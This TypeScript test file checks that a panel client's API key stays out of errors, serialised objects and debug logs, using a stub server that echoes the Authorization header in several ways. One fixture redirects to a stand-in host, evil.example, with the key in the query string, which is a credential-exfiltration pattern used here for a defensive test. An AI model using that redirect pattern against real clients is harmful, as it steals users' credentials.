/**
 * The API key must never surface: not in any error text, not in an inspected/serialised error or client, not in the debug
 * log — even when a hostile panel echoes the Authorization header back.
 */
import type { ServerResponse } from 'node:http';
import { inspect } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLogger } from '../src/log.ts';
import { PanelClient, PanelError } from '../src/panel/index.ts';
import { captureStream, closedPort, json, panelError, type Stub, startStub } from './panel-stub-server.ts';

const KEY = ['ptlc', 'S3cr3tK3yS3cr3tK3yS3cr3tK3yS3cr3tK3yS3cr3tK'].join('_');
const SECRET_PART = 'S3cr3tK3y';
const SERVER = '1a2b3c4d';

const echoAuth = (status: number) => (req: { headers: { authorization?: string } }, res: ServerResponse) =>
  json(res, status, panelError(status, 'HttpException', `You sent ${req.headers.authorization ?? ''}.`));

interface Scenario {
  name: string;
  answer?: (req: { headers: { authorization?: string }; path: string }, res: ServerResponse) => void;
  run: (c: PanelClient) => Promise<unknown>;
  apiKey?: string;
  panelUrl?: () => Promise<string>;
}

const scenarios: Scenario[] = [
  {
    name: '401',
    answer: (_q, r) => json(r, 401, panelError(401, 'AuthenticationException', 'Unauthenticated.')),
    run: (c) => c.getAccount(),
  },
  {
    name: 'application key',
    answer: (_q, r) =>
      json(
        r,
        403,
        panelError(
          403,
          'AccessDeniedHttpException',
          'You are attempting to use an application API key on an endpoint that requires a client API key.',
        ),
      ),
    run: (c) => c.getServer(SERVER),
  },
  { name: '403 echoing the header', answer: echoAuth(403), run: (c) => c.sendPower(SERVER, 'start') },
  { name: '422 echoing the header', answer: echoAuth(422), run: (c) => c.sendCommand(SERVER, 'op me') },
  { name: '500 echoing the header', answer: echoAuth(500), run: (c) => c.getResources(SERVER) },
  { name: '409 echoing the header', answer: echoAuth(409), run: (c) => c.getWebsocketCredentials(SERVER) },
  {
    name: 'HTML page echoing the header',
    answer: (q, r) => r.writeHead(200, { 'content-type': 'text/html' }).end(`<p>${q.headers.authorization}</p>`),
    run: (c) => c.getServer(SERVER),
  },
  {
    name: 'redirect carrying the key',
    answer: (q, r) =>
      r
        .writeHead(302, { location: `https://evil.example/?k=${encodeURIComponent(q.headers.authorization ?? '')}` })
        .end(),
    run: (c) => c.getAccount(),
  },
  {
    name: '429',
    answer: (_q, r) =>
      json(r, 429, panelError(429, 'ThrottleRequestsException', 'Too Many Attempts.'), { 'retry-after': '30' }),
    run: (c) => c.getWebsocketCredentials(SERVER),
  },
  { name: 'timeout', answer: () => {}, run: (c) => c.getAccount() },
  { name: 'refused', run: (c) => c.getAccount(), panelUrl: async () => `http://127.0.0.1:${await closedPort()}` },
  { name: 'key with a line break', apiKey: `${KEY.slice(0, 20)}\n${KEY.slice(20)}`, run: (c) => c.getAccount() },
  { name: 'key with a space', apiKey: `Bearer ${KEY}`, run: (c) => c.getAccount() },
];

let stub: Stub;
const log = captureStream();
const logger = createLogger({ level: 'debug', destination: log.stream });
const errors: PanelError[] = [];
let current: Scenario | undefined;

beforeAll(async () => {
  stub = await startStub((req, res) => current?.answer?.(req, res));
});
afterAll(() => stub.close());

function everyText(e: PanelError): string[] {
  return [
    e.message,
    e.userMessage,
    e.detail ?? '',
    String(e),
    JSON.stringify(e),
    inspect(e, { depth: 5 }),
    e.stack ?? '',
  ];
}

describe('the API key never appears', () => {
  it.each(scenarios)('in the error for: $name', async (scenario) => {
    current = scenario;
    const panelUrl = scenario.panelUrl ? await scenario.panelUrl() : stub.url;
    const client = new PanelClient({ panelUrl, apiKey: scenario.apiKey ?? KEY, timeoutMs: 300, maxRetries: 0, logger });
    const e = await scenario.run(client).then(
      () => undefined,
      (err: unknown) => err,
    );
    expect(e).toBeInstanceOf(PanelError);
    const error = e as PanelError;
    errors.push(error);
    logger.error({ err: error }, 'panel call failed'); // how the bot will log it
    for (const text of everyText(error)) {
      expect(text).not.toContain(SECRET_PART);
    }
    expect(inspect(client, { depth: 5 })).not.toContain(SECRET_PART);
    expect(JSON.stringify(client)).not.toContain(SECRET_PART);
  });

  it('and an echoed header shows up redacted in the detail', () => {
    const echoed = errors.filter((e) => e.detail?.startsWith('You sent'));
    expect(echoed.length).toBeGreaterThanOrEqual(3);
    for (const e of echoed) expect(e.detail).toContain('[redacted]');
  });

  it('in the debug log, which still records each call', () => {
    const text = log.text();
    expect(text).not.toContain(SECRET_PART);
    expect(text.toLowerCase()).not.toContain('authorization');
    const calls = log.lines().filter((l) => l.msg === 'panel call');
    expect(calls.length).toBeGreaterThanOrEqual(10);
    const withStatus = calls.find((l) => l.status === 401);
    expect(withStatus).toMatchObject({ method: 'GET', path: '/api/client/account', level: 20 });
    expect(typeof withStatus?.durationMs).toBe('number');
    expect(withStatus?.keyId).toMatch(/^[0-9a-f]{12}$/);
  });
});
